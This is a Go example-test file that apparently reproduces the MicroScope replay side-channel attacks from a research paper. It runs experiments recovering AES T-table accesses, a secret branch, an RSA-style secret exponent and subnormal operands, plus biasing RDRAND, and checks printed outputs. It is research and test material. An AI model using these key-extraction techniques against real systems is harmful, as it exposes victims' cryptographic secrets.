package experiments_test

import (
	"fmt"

	"microscope/attack/experiments"
)

// The §6.2 attack end to end. A victim decrypts one AES block with the
// OpenSSL-style T-table implementation; MicroScope single-steps it with
// an rk-page replay handle and a Td0-page pivot, extracting every
// T-table cache line the decryption touches — in one logical run, with
// zero noise — and checks the result against the reference trace.
func ExampleRunAESExtraction() {
	cfg := experiments.DefaultAESConfig()
	cfg.Key = []byte("sixteen byte key")
	cfg.Plaintext = []byte("the secret block")

	res, err := experiments.RunAESExtraction(cfg)
	if err != nil {
		fmt.Println(err)
		return
	}

	fmt.Printf("AES-%d decryption: %d rounds, %d page faults used\n",
		len(cfg.Key)*8, res.Rounds, res.Faults)
	for r := 1; r <= res.Rounds; r++ {
		if r == res.Rounds {
			fmt.Printf("round %2d (final): Td4 lines %v\n",
				r, experiments.LinesOf(res.Extracted[r][4]))
			continue
		}
		fmt.Printf("round %2d:", r)
		for t := 0; t < 4; t++ {
			fmt.Printf(" Td%d%v", t, experiments.LinesOf(res.Extracted[r][t]))
		}
		fmt.Println()
	}

	ok, diff := res.Match()
	fmt.Printf("\nextraction matches the reference trace: %t\n", ok)
	fmt.Printf("victim still decrypted correctly:      %t\n", res.PlaintextOK)
	if !ok {
		fmt.Println(diff)
	}
	// Output:
	// AES-128 decryption: 10 rounds, 84 page faults used
	// round  1: Td0[5 9 11 14] Td1[1 3 6 14] Td2[2 3 13 14] Td3[0 3 9]
	// round  2: Td0[0 8 9 13] Td1[0 1 8] Td2[1 8 14] Td3[0 2 7 8]
	// round  3: Td0[4 7 8 12] Td1[0 5 9 10] Td2[1 3 10 11] Td3[2 4 5 14]
	// round  4: Td0[1 2 7 13] Td1[0 2 3 12] Td2[1 9 11 15] Td3[0 3 13]
	// round  5: Td0[2 8 10] Td1[6 7 9 10] Td2[4 10 11] Td3[5 8 9]
	// round  6: Td0[0 5 7] Td1[2 8 9 14] Td2[1 5 9 10] Td3[0 2 7 10]
	// round  7: Td0[4 6 9 11] Td1[1 3 9 13] Td2[5 7 9] Td3[4 5 11 14]
	// round  8: Td0[3 8 13 15] Td1[2 3 12] Td2[1 11 12 14] Td3[9 10 13]
	// round  9: Td0[1 2 7] Td1[1 3 9 14] Td2[1 4 6 14] Td3[4 5 10 11]
	// round 10 (final): Td4 lines [0 2 4 6 7 10 12 13 15]
	//
	// extraction matches the reference trace: true
	// victim still decrypted correctly:      true
}

// Port contention: the paper's main result (§4.3, Fig. 10). A victim's
// secret branch executes either two multiplies or two divides — once,
// with no loop. MicroScope replays the sequence while a monitor on the
// sibling SMT context times its own divisions; divider occupancy
// reveals the branch direction.
func ExampleRunFig10() {
	cfg := experiments.DefaultFig10Config()
	cfg.Samples = 4000 // smaller than the paper's 10,000 for a quick demo

	res, err := experiments.RunFig10(cfg)
	if err != nil {
		fmt.Println(err)
		return
	}

	fmt.Printf("monitor samples per side: %d\n", cfg.Samples)
	fmt.Printf("threshold (calibrated on the mul side): %d cycles\n", res.Threshold)
	fmt.Printf("over threshold: mul=%d div=%d (separation %.1fx)\n",
		res.MulOver, res.DivOver, res.SeparationX)
	fmt.Printf("victim replays: mul=%d div=%d — each a single logical run\n",
		res.Mul.Replays, res.Div.Replays)

	if res.SecretDetected() {
		fmt.Println("verdict: victim executed the DIV side -> secret = 1")
	} else {
		fmt.Println("verdict: no divider contention -> secret = 0")
	}
	// Output:
	// monitor samples per side: 4000
	// threshold (calibrated on the mul side): 53 cycles
	// over threshold: mul=2 div=34 (separation 17.0x)
	// victim replays: mul=33 div=33 — each a single logical run
	// verdict: victim executed the DIV side -> secret = 1
}

// RDRAND bias: the §7.2 integrity attack. The victim draws a hardware
// random number in the shadow of a replay handle; the attacker learns
// the draw over a cache side channel and selectively replays until a
// draw it likes comes up, then races the page walker to set the present
// bit so that very draw retires — biasing a "true" RNG. With Intel's
// fence inside RDRAND the attacker is blind and the attack fails, which
// is the paper's point: the fence should exist *for security reasons*.
func ExampleRunRDRANDBias() {
	for _, fenced := range []bool{false, true} {
		fmt.Printf("=== RDRAND %s ===\n", map[bool]string{false: "unfenced", true: "with Intel's fence"}[fenced])
		for _, target := range []uint64{0, 1} {
			res, err := experiments.RunRDRANDBias(target, 100, fenced)
			if err != nil {
				fmt.Println(err)
				return
			}
			fmt.Printf("target bit %d: observed=%t windows-discarded=%d retired-bit=%d biased=%t\n",
				target, res.Observed, res.Windows, res.FinalLowBit, res.Achieved)
		}
		fmt.Println()
	}
	// Output:
	// === RDRAND unfenced ===
	// target bit 0: observed=true windows-discarded=2 retired-bit=0 biased=true
	// target bit 1: observed=true windows-discarded=0 retired-bit=1 biased=true
	//
	// === RDRAND with Intel's fence ===
	// target bit 0: observed=false windows-discarded=100 retired-bit=0 biased=false
	// target bit 1: observed=false windows-discarded=100 retired-bit=0 biased=false
}

// RSA-style key extraction: square-and-multiply modular exponentiation
// with a secret exponent, attacked with the Loop Secret pattern of
// §4.2.2. Each iteration's replay handle opens a window over that
// iteration's secret-dependent multiply; after a few replays train the
// branch predictor to a known state (§4.2.3), the multiply path's cache
// footprint reveals the exponent bit. The whole exponent falls out of a
// single logical run.
func ExampleRunModExp() {
	const (
		base = 0x4321
		exp  = 0xC0DE // the secret exponent the attack recovers
		mod  = 0xE777D
		bits = 16
	)
	res, err := experiments.RunModExp(base, exp, mod, bits)
	if err != nil {
		fmt.Println(err)
		return
	}

	fmt.Printf("victim: %#x ^ secret mod %#x (%d-bit exponent)\n", base, mod, bits)
	fmt.Printf("page faults used: %d (one logical run)\n", res.Faults)
	fmt.Printf("true exponent:      %016b\n", res.TrueExp)
	fmt.Printf("recovered exponent: %016b\n", res.RecoveredExp)
	fmt.Printf("victim result correct: %t\n", res.ResultOK)
	if res.Match() {
		fmt.Println("exponent fully recovered")
	}
	// Output:
	// victim: 0x4321 ^ secret mod 0xe777d (16-bit exponent)
	// page faults used: 80 (one logical run)
	// true exponent:      1100000011011110
	// recovered exponent: 1100000011011110
	// victim result correct: true
	// exponent fully recovered
}

// Single secret: the Fig. 5 attack. The victim is getSecret(id, key) —
// count++ (the replay handle) followed by secrets[id]/key (the transmit
// divide). MicroScope replays the divide while an SMT monitor measures
// divider contention; the magnitude of the contention reveals whether
// secrets[id] is a subnormal float — a one-instruction property prior
// attacks could only see in whole-program timing.
func ExampleRunSubnormal() {
	res, err := experiments.RunSubnormal(3000)
	if err != nil {
		fmt.Println(err)
		return
	}

	fmt.Println("Fig. 5 — detecting a subnormal operand of ONE divide instruction")
	fmt.Printf("contention threshold: %d cycles; high threshold: %d cycles\n",
		res.Threshold, res.HighThreshold)
	fmt.Printf("normal secrets[id]:    %4d contended samples, %3d above high threshold, max %d\n",
		res.NormalOver, res.NormalHigh, res.MaxNormal)
	fmt.Printf("subnormal secrets[id]: %4d contended samples, %3d above high threshold, max %d\n",
		res.SubnormalOver, res.SubnormalHigh, res.MaxSubnormal)
	fmt.Printf("\nsubnormal input detected: %t\n", res.Detected())
	// Output:
	// Fig. 5 — detecting a subnormal operand of ONE divide instruction
	// contention threshold: 53 cycles; high threshold: 79 cycles
	// normal secrets[id]:      23 contended samples,   0 above high threshold, max 69
	// subnormal secrets[id]:   24 contended samples,  24 above high threshold, max 189
	//
	// subnormal input detected: true
}
